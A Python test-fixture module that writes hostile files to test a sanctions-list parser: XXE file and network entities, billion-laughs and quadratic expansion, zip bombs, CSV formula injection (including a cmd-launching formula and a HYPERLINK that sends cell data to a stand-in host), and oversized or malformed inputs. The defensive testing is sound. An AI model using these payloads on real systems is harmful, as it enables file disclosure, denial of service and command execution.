"""Report files that nobody sends by accident: each is written into a folder by the function of its name.

Sizes are such that a reader that holds or expands what it should not is seen at once (hundreds of
megabytes from files that are quick to write); ``blanks`` takes its size, for a run by hand.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Final

MEGABYTE: Final = 1 << 20
_UN_HEAD: Final = '<?xml version="1.0" encoding="{encoding}"?>\n{doctype}<CONSOLIDATED_LIST dateGenerated="2026-03-05T00:00:07.250Z"{more}>\n<INDIVIDUALS>\n'
_UN_TAIL: Final = "</INDIVIDUALS>\n</CONSOLIDATED_LIST>\n"
_PERSON: Final = "<INDIVIDUAL>\n<FIRST_NAME>{name}</FIRST_NAME><UN_LIST_TYPE>Sudan</UN_LIST_TYPE><REFERENCE_NUMBER>{ref}</REFERENCE_NUMBER>{more}</INDIVIDUAL>\n"


def un_list(*persons: str, doctype: str = "", more: str = "", encoding: str = "UTF-8") -> str:
    """A small list of the United Nations' shape."""
    return _UN_HEAD.format(doctype=doctype, more=more, encoding=encoding) + "".join(persons) + _UN_TAIL


def person(ref: str, name: str = "KESTREL", more: str = "") -> str:
    return _PERSON.format(ref=ref, name=name, more=more)


def notice(number: int, **more: object) -> dict[str, object]:
    """A small notice of INTERPOL's shape."""
    entity = f"2031/{number}"
    href = f"https://notices.interpol.example/notices/v1/red/2031-{number}"
    said: dict[str, object] = {"entity_id": entity, "name": "LARK", "forename": "TAMSIN"}
    said |= {"date_of_birth": "1981/03/09", "nationalities": ["SE"], "arrest_warrants": None}
    return said | {"_links": {"self": {"href": href}}} | more


def xxe_file(folder: Path) -> Path:
    secret = folder / "secret.txt"
    secret.write_text("THE-SECRET-OF-ANOTHER-FILE", encoding="ascii")
    doctype = f'<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY x SYSTEM "file://{secret}">]>\n'
    return _text(folder, "xxe_file.xml", un_list(person("SDi.1", "&x;"), doctype=doctype))


def xxe_network(folder: Path, port: int = 9) -> Path:
    doctype = f'<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/x">]>\n'
    return _text(folder, "xxe_network.xml", un_list(person("SDi.1", "&x;"), doctype=doctype))


def xxe_late(folder: Path) -> Path:
    """The document type stands behind what detection looks at."""
    doctype = f"<!--{'x' * 200_000}-->\n<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY x 'y'>]>\n"
    return _text(folder, "xxe_late.xml", un_list(person("SDi.1", "&x;"), doctype=doctype))


def billion_laughs(folder: Path) -> Path:
    lines = ['<!ENTITY a0 "ha">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11)]
    doctype = f"<!DOCTYPE CONSOLIDATED_LIST [{''.join(lines)}]>\n"
    return _text(folder, "billion_laughs.xml", un_list(person("SDi.1", "&a10;"), doctype=doctype))


def quadratic_blowup(folder: Path) -> Path:
    doctype = f'<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY a "{"x" * 100_000}">]>\n'
    return _text(folder, "quadratic.xml", un_list(person("SDi.1", "&a;" * 10_000), doctype=doctype))


def external_dtd(folder: Path) -> Path:
    (folder / "list.dtd").write_text("<!ENTITY x 'from the DTD'>", encoding="ascii")
    doctype = f'<!DOCTYPE CONSOLIDATED_LIST SYSTEM "file://{folder / "list.dtd"}">\n'
    return _text(folder, "external_dtd.xml", un_list(person("SDi.1", "&x;"), doctype=doctype))


def unknown_entity(folder: Path) -> Path:
    return _text(folder, "unknown_entity.xml", un_list(person("SDi.1", "&x;")))


def xinclude(folder: Path) -> Path:
    include = f'<xi:include href="file://{folder}/secret.txt" parse="text"/>'
    more = ' xmlns:xi="http://www.w3.org/2001/XInclude"'
    return _text(folder, "xinclude.xml", un_list(person("SDi.1", include), more=more))


def utf16_without_mark(folder: Path) -> Path:
    return _bytes(
        folder, "utf16.xml", un_list(person("SDi.1")).replace("UTF-8", "UTF-16").encode("utf-16-le")
    )


def latin_claimed_as_utf8(folder: Path) -> Path:
    return _bytes(folder, "latin1.xml", un_list(person("SDi.1"), person("SDi.2", "GARÇÓN")).encode("latin-1"))


def latin_json(folder: Path) -> Path:
    text = json.dumps([notice(1, name="GARÇÓN")], ensure_ascii=False, indent=1)
    return _bytes(folder, "latin1.json", text.encode("latin-1"))


def windows_csv(folder: Path) -> Path:
    return _bytes(
        folder, "windows.csv", "Value,Name\nkestrel.example,Garçon à l\u2019œuvre\n".encode("windows-1252")
    )


def undefined_csv(folder: Path) -> Path:
    """Not UTF-8, and a byte that means nothing in Windows-1252."""
    return _bytes(
        folder, "undefined.csv", b"Value,Name\nkestrel.example,Gar\xe7on\n" + b"lark.example,\x81\x8d\n"
    )


def utf16_csv(folder: Path) -> Path:
    return _bytes(folder, "utf16.csv", "Value,Name\r\nkestrel.example,Lark\r\n".encode("utf-16-le"))


def truncated_xml(folder: Path) -> Path:
    text = un_list(*(person(f"SDi.{n}") for n in range(1, 40)))
    return _text(folder, "truncated.xml", text[: len(text) // 2])


def truncated_json(folder: Path) -> Path:
    text = json.dumps([notice(n) for n in range(1, 40)], indent=1)
    return _text(folder, "truncated.json", text[: len(text) // 2])


def truncated_csv(folder: Path) -> Path:
    return _text(
        folder,
        "truncated.csv",
        'Value,Name,Description\nkestrel.example,Kestrel,"a, b"\nlark.example,Lark,"cut in the mid',
    )


def truncated_xlsx(folder: Path) -> Path:
    whole = workbook_bytes(
        [["Record", "Reference", "Agency", "Caveat"]]
        + [["Person", f"P-{n}", "HERON", "TLP:AMBER"] for n in range(200)]
    )
    return _bytes(folder, "truncated.xlsx", whole[: len(whole) // 2])


def blanks_xml(folder: Path, size: int = 200 * MEGABYTE) -> Path:
    head, tail = un_list(person("SDi.1"), "\0", person("SDi.2")).split("\0")
    return _blanks(folder, "blanks.xml", (head, tail), size)


def blanks_before_xml(folder: Path, size: int = 200 * MEGABYTE) -> Path:
    return _blanks(folder, "blanks_before.xml", ("", un_list(person("SDi.1")).partition("?>\n")[2]), size)


def blanks_inside_xml(folder: Path, size: int = 200 * MEGABYTE) -> Path:
    """In one field."""
    head, tail = un_list(person("SDi.1", "\0")).split("\0")
    return _blanks(folder, "blanks_inside.xml", (head, tail), size)


def blanks_json(folder: Path, size: int = 200 * MEGABYTE) -> Path:
    return _blanks(
        folder, "blanks.json", ("[" + json.dumps(notice(1)) + ",", json.dumps(notice(2)) + "]"), size
    )


def blanks_allowed_json(folder: Path) -> Path:
    return blanks_json(folder, 30 * MEGABYTE)


def blanks_only_json(folder: Path, size: int = 200 * MEGABYTE) -> Path:
    return _blanks(folder, "blanks_only.json", ("", ""), size)


def blanks_csv(folder: Path, size: int = 200 * MEGABYTE) -> Path:
    return _blanks(
        folder, "blanks.csv", ("Value,Name\nkestrel.example,Kestrel\n", "lark.example,Lark\n"), size, b"\n"
    )


def blanks_line_csv(folder: Path, size: int = 200 * MEGABYTE) -> Path:
    """Without a line end."""
    return _blanks(
        folder, "blanks_line.csv", ("Value,Name\nkestrel.example,Kestrel", "\nlark.example,Lark\n"), size
    )


def zeros(folder: Path, size: int = 1024 * MEGABYTE) -> Path:
    """A file of holes."""
    path = folder / "zeros.csv"
    with path.open("wb") as file:
        file.write(b"Value,Name\nkestrel.example,Kestrel\n")
        file.truncate(size)
    return path


def zip_bomb_ratio(folder: Path) -> Path:
    return _bomb(folder, "bomb_ratio.xlsx", 100 * MEGABYTE)


def zip_bomb_lying(folder: Path) -> Path:
    """The directory says that the part is small."""
    path = _bomb(folder, "bomb_lying.xlsx", 100 * MEGABYTE)
    data = path.read_bytes()
    real = (100 * MEGABYTE + len(_SHEET_HEAD)).to_bytes(4, "little")
    assert data.count(real) >= 1
    path.write_bytes(data.replace(real, (5_000).to_bytes(4, "little")))
    return path


def zip_bomb_absolute(folder: Path) -> Path:
    """No part grows much, but there are many of them."""
    piece = bytes(range(256)) * 512
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("xl/workbook.xml", _BOOK)
        for number in range(300):
            archive.writestr(f"xl/media/{number}", b"".join(piece[n:] + piece[:n] for n in range(30)))
    return _bytes(folder, "bomb_absolute.xlsx", out.getvalue())


def zip_many_parts(folder: Path) -> Path:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(5_000):
            archive.writestr(f"xl/{number}", b"")
    return _bytes(folder, "many_parts.xlsx", out.getvalue())


def cell_far_off(folder: Path) -> Path:
    sheet = '<row r="1"><c r="A1" t="inlineStr"><is><t>Record</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return _bytes(folder, "far.xlsx", _workbook(sheet.encode()))


def formulas_csv(folder: Path) -> Path:
    rows = [
        '=HYPERLINK("http://kestrel.example"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
    ]
    lines = "".join(f'"{row.replace(chr(34), chr(34) * 2)}",Formula {n}\n' for n, row in enumerate(rows))
    named = "".join(f'lark{n}.example,"{row.replace(chr(34), chr(34) * 2)}"\n' for n, row in enumerate(rows))
    return _text(folder, "formulas.csv", "Value,Name\n" + lines + named)


def deep_xml(folder: Path) -> Path:
    return _text(folder, "deep.xml", un_list(person("SDi.1", more="<A>" * 100_000 + "</A>" * 100_000)))


def deep_xml_allowed(folder: Path) -> Path:
    """As deep as the parser lets pass."""
    return _text(folder, "deep_allowed.xml", un_list(person("SDi.1", more="<A>" * 240 + "x" + "</A>" * 240)))


def deep_json(folder: Path) -> Path:
    text = json.dumps([notice(1)])[:-2] + ', "x": ' + "[" * 200_000 + "]" * 200_000 + "}]"
    return _text(folder, "deep.json", text)


def deep_json_outside(folder: Path) -> Path:
    return _text(folder, "deep_outside.json", '{"a":' * 200_000)


def field_xml(folder: Path) -> Path:
    """One field of 100 MB."""
    head, tail = un_list(person("SDi.1", "\0"), person("SDi.2")).split("\0")
    return _blanks(folder, "field.xml", (head, tail), 100 * MEGABYTE, b"x")


def field_json(folder: Path) -> Path:
    head, tail = json.dumps([notice(1, name="SPLIT"), notice(2)]).split("SPLIT")
    return _blanks(folder, "field.json", (head, tail), 100 * MEGABYTE, b"x")


def field_csv(folder: Path) -> Path:
    return _blanks(
        folder, "field.csv", ('Value,Name\nkestrel.example,"', '"\nlark.example,Lark\n'), 100 * MEGABYTE, b"x"
    )


def lines_csv(folder: Path) -> Path:
    """One field of many lines: a quotation mark that nobody closes."""
    return _blanks(
        folder,
        "lines.csv",
        ('Value,Name\nkestrel.example,"', ""),
        20 * MEGABYTE,
        b"lark.example,Lark" + b"x" * 1000 + b"\n",
    )


def nul_xml(folder: Path) -> Path:
    return _bytes(folder, "nul.xml", un_list(person("SDi.1"), person("SDi.2", "A\0B")).encode())


def nul_json(folder: Path) -> Path:
    return _bytes(folder, "nul.json", json.dumps([notice(1), notice(2, name="A\0B")]).encode())


def nul_raw_json(folder: Path) -> Path:
    return _bytes(
        folder, "nul_raw.json", json.dumps([notice(1, name="A\x7fB")]).encode().replace(b"\\u007f", b"\0")
    )


def nul_csv(folder: Path) -> Path:
    return _bytes(folder, "nul.csv", b"Value,Name\nkestrel.example,A\0B\nlark\0.example,Lark\n")


def columns_csv(folder: Path) -> Path:
    """A million columns in the header, then in a row."""
    wide = ",".join(f"c{n}" for n in range(1_000_000))
    return _text(folder, "columns.csv", f"Value,{wide}\nkestrel.example,{wide}\n")


def columns_row_csv(folder: Path) -> Path:
    wide = ",x" * 1_000_000
    return _text(folder, "columns_row.csv", f"Value,Name\nkestrel.example{wide}\nlark.example,Lark\n")


def attributes_xml(folder: Path) -> Path:
    wide = "".join(f' a{n}="1"' for n in range(300_000))
    return _text(folder, "attributes.xml", un_list(person("SDi.1", more=f"<A{wide}/>")))


def elements_xml(folder: Path) -> Path:
    """One record of a million elements."""
    return _text(
        folder, "elements.xml", un_list(person("SDi.1", more="<A>x</A>" * 1_000_000), person("SDi.2"))
    )


def outside_xml(folder: Path) -> Path:
    """A million elements that are no records."""
    return _text(folder, "outside.xml", un_list("<A>x</A>" * 1_000_000, person("SDi.1")))


def names_xml(folder: Path) -> Path:
    """Names so long that every leaf's path would be as long as a file."""
    names = ["N" * 10_000 + str(n) for n in range(200)]
    inner = "<A>x</A>" * 50_000
    for name in names:
        inner = f"<{name}>{inner}</{name}>"
    return _text(folder, "names.xml", un_list(person("SDi.1", more=inner)))


def names_json(folder: Path) -> Path:
    return _text(folder, "names.json", json.dumps([notice(1, **{"k" * 2_000_000: ["1"] * 90_000})]))


def outside_json(folder: Path) -> Path:
    return _text(folder, "outside.json", json.dumps([notice(1)])[:-1] + ', "1"' * 1_000_000 + "]")


def keys_json(folder: Path) -> Path:
    """One record of very many keys."""
    more = {f"k{n}": "1" for n in range(400_000)}
    return _text(folder, "keys.json", json.dumps([notice(1, **more), notice(2)]))


def twice_json(folder: Path) -> Path:
    """One key 200,000 times."""
    text = json.dumps([notice(1)])[:-2] + ', "x": "1"' * 200_000 + "}]"
    return _text(folder, "twice.json", text)


def digits_json(folder: Path) -> Path:
    text = json.dumps([notice(1)])[:-2] + ', "weight": ' + "9" * 5_000_000 + "}]"
    return _text(folder, "digits.json", text)


def empty(folder: Path) -> Path:
    return _bytes(folder, "empty.xml", b"")


def _text(folder: Path, name: str, text: str) -> Path:
    return _bytes(folder, name, text.encode())


def _bytes(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def _blanks(folder: Path, name: str, around: tuple[str, str], size: int, filling: bytes = b" ") -> Path:
    path = folder / name
    piece = filling * (MEGABYTE // len(filling))
    with path.open("wb") as file:
        file.write(around[0].encode())
        file.writelines(_pieces(piece, size))
        file.write(around[1].encode())
    return path


def _pieces(piece: bytes, size: int) -> Iterator[bytes]:
    for _ in range(size // len(piece)):
        yield piece


_SHEET_HEAD: Final = b"<worksheet><sheetData>"
_RELS: Final = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/></Relationships>'
_BOOK: Final = '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Persons" sheetId="1" r:id="r1"/></sheets></workbook>'


def _workbook(rows: bytes | Iterator[bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("_rels/.rels", _RELS.format(kind="officeDocument", target="xl/workbook.xml"))
        archive.writestr("xl/workbook.xml", _BOOK)
        archive.writestr(
            "xl/_rels/workbook.xml.rels", _RELS.format(kind="worksheet", target="worksheets/sheet1.xml")
        )
        with archive.open("xl/worksheets/sheet1.xml", "w") as file:
            file.write(_SHEET_HEAD)
            for piece in (rows,) if isinstance(rows, bytes) else rows:
                file.write(piece)
    return out.getvalue()


def _bomb(folder: Path, name: str, size: int) -> Path:
    return _bytes(folder, name, _workbook(_pieces(b" " * MEGABYTE, size)))


def workbook_bytes(rows: list[list[str]]) -> bytes:
    """A workbook of one sheet, Persons."""
    made = (
        f"<row>{''.join(f'<c t={chr(34)}inlineStr{chr(34)}><is><t>{cell}</t></is></c>' for cell in row)}</row>"
        for row in rows
    )
    return _workbook(iter([*(row.encode() for row in made), b"</sheetData></worksheet>"]))
